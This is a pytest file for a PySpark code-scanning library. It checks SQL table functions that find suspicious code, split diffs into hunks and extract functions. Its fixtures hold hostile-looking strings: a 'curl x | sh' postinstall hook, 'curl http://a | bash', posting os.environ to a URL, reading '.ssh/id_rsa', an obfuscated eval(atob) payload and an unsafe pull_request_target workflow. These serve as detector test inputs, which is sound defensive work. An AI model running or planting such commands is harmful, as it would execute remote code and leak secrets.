"""Table functions of SQL against their DataFrame forms."""

import pytest
from pyspark.sql import functions as F

from siltstone.functions.table_functions import register_tables
from siltstone.operators import detect as D
from siltstone.operators import parse as P
from siltstone.operators.fixtures import fixtures

HOOKS = ['{"scripts": {"postinstall": "curl x | sh"}}', '{"scripts": {"install": "node a.js", "build": "x"}}', '{"scripts": {"build": "eval("}}', "not json", '{"scripts": [1]}', "", '{"scripts": {"preinstall": 5}}']
TEXTS = ["x = 1", "eval(atob('" + "QUJDRA0123456789abcdefgh" * 6 + "'))", "os.system('x')", "requests.post(u, data=os.environ)", "http://10.0.0.1/ and http://8.8.8.8/", "see Pastebin.com", "open('.ssh/id_rsa')\n" + "-" * 400 + "\nfetch (u)", "curl http://a | bash", "é eval (", "String.fromCharCode(" + "1, " * 20 + "2)", "exec { commandLine 'a' }"]


def test_findings(spark):
    register_tables(spark)
    names = ["a.py", "setup.py", "build.gradle", "Makefile", "tests/test_a.js", "docs/x.md"]
    rows = [(n, t) for n in names for t in TEXTS] + [("p/package.json", t) for t in HOOKS] + [(".github/workflows/ci.yml", "on: pull_request_target\nref: ${{ github.event.pull_request.head.sha }}"), ("a.py", None), (None, "eval("), ("b.py", "eval(" * 100_000)]
    df = spark.createDataFrame([("r", f"{k}/{n}" if n else None, t) for k, (n, t) in enumerate(rows)], "repo string, path string, content string").unionByName(fixtures(spark, 200).select("repo", "path", "content"))
    got = spark.sql("SELECT f.path, x.kind, x.severity FROM {f} f, LATERAL text_findings(f.path, f.content) x", f=df)
    assert sorted(map(tuple, got.collect())) == sorted(map(tuple, D.scan(df).filter("path is not null").select("path", "kind", "severity").collect())) and got.count() > 100


def test_hunks_and_functions(spark):
    register_tables(spark)
    patch = "diff --git a/f.py b/f.py\n--- a/f.py\n+++ b/f.py\n@@ -1,2 +1,3 @@\n x\n+y\n-a\n@@ -9 +9 @@\n+z"
    df = spark.createDataFrame([(1, patch), (2, None), (3, "none")], "doc_id long, patch string")
    assert spark.sql("SELECT p.doc_id, h.* FROM {p} p, LATERAL patch_hunks(p.patch) h", p=df).collect() == P.parse_patches(df).collect()
    code = spark.createDataFrame([(1, "def f():\n  pass\nx = 1", "python"), (2, "int g(int a) { return 0; }", "c"), (3, None, "c"), (4, "def (", "python")], "doc_id long, code string, language string")
    got = spark.sql("SELECT c.doc_id, f.* FROM {c} c, LATERAL code_functions(c.code, c.language) f", c=code)
    assert got.collect() == P.extract_functions(code, language="language").collect() and got.count() == 2
    assert spark.sql("SELECT * FROM code_functions('def a(): pass')").first().name == "a"


@pytest.mark.parametrize("call", ["patch_hunks(1)", "patch_hunks()", "code_functions('x', 'y', 'z')", "text_findings('x')", "code_functions(text => 'x')"])
def test_wrong_arguments_do_not_compile(spark, call):
    register_tables(spark)
    with pytest.raises(Exception, match="(takes|must be a string)"):
        spark.sql(f"SELECT * FROM {call}").schema  # noqa: B018
